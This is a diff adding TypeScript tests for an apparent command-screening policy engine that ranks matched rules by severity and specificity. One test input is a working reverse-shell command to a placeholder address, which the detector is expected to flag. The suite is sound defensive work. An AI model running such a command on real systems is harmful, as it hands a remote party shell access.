@@ -71,3 +71,41 @@ describe("of many matches the few that say most are told", () => {
     expect(matched.map(({ rule }) => rule)).toContain("remote-code.download-to-shell");
   });
 });
+
+describe("of equals, what asks for more comes first", () => {
+  test("a socket wired to a shell is a reverse shell before it is a download", () => {
+    expect(told("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").rules).toEqual([
+      "reverse-shells.socket",
+      "remote-code.download-to-shell",
+    ]);
+  });
+  test("the id decides between those that ask for as much; severity comes before both", () => {
+    const about = (id: string, severity: Rule["severity"], when: Rule["when"]): Rule => ({
+      ...own("BLOCK"),
+      id,
+      severity,
+      when,
+    });
+    const rules = [
+      about("own.b", "high", { run: "frob" }),
+      about("own.c", "high", { run: "frob", flags: "-x" }),
+      about("own.a", "high", { run: "frob" }),
+      about("own.z", "critical", { run: "frob" }),
+    ];
+    for (const order of [rules, rules.toReversed()]) {
+      expect(told("frob -x", { rules: order }).rules).toEqual(["own.z", "own.c", "own.a", "own.b"]);
+    }
+  });
+  test("what was not understood stands before its equals, what nothing speaks of behind", () => {
+    const policy = {
+      no_match: "ASK" as const,
+      rules: [{ ...own("ASK"), severity: "high" as const, when: { run: "frob" } }],
+    };
+    expect(told('frob; nothing; "$X" y', policy).rules).toEqual([
+      "gate.unresolved-program",
+      "own.keep",
+      "remote-code.unknown-to-shell",
+      "policy.no-match",
+    ]);
+  });
+});
